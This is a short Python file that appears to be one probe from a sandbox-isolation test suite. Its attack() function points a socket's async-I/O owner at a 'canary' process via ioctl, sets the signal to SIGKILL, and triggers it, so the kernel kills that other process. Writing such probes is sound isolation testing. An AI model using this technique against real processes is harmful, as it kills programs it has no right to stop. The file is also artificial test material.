"""Has the kernel signal another process's owner of a socket, set by ioctl."""

import fcntl
import os
import signal
import socket
import struct

KIND = "killed"


F_SETSIG, FIOSETOWN = 10, 0x8901


def attack(canary):
    ours, theirs = socket.socketpair()
    fcntl.ioctl(ours, FIOSETOWN, struct.pack("i", canary["process"]))
    fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"now")
